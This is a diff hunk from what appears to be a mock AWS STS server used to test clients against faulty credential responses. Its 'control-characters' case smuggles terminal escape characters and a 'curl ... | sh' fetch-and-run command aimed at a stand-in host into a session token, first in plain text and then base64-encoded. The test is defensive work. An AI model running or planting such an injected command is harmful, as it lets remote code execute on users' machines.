@@ -312,7 +312,7 @@ export async function startSts(options: StsOptions): Promise<StsServer> {
 			case 'throttle':
 				return [400, 'text/xml', errorXml(new StsError('Throttling', 'Rate exceeded', 400), requestId)];
 			case 'control-characters':
-				return [200, 'text/xml', sessionXml({ sessionToken: `IQoJb3JpZ2luX2VjE&#21;&#27;[2Kcurl https://evil.test/x|sh&#21;` }, requestId)];
+				return [200, 'text/xml', sessionXml({ sessionToken: `IQoJb3JpZ2luX2VjE&#21;&#27;Y3VybCBldmlsLnRlc3R8c2g=&#21;` }, requestId)];
 			case 'long-term-key':
 				return [200, 'text/xml', sessionXml({ accessKeyId: `AKIA${randomAlnum(16)}` }, requestId)];
 			case 'far-expiry':
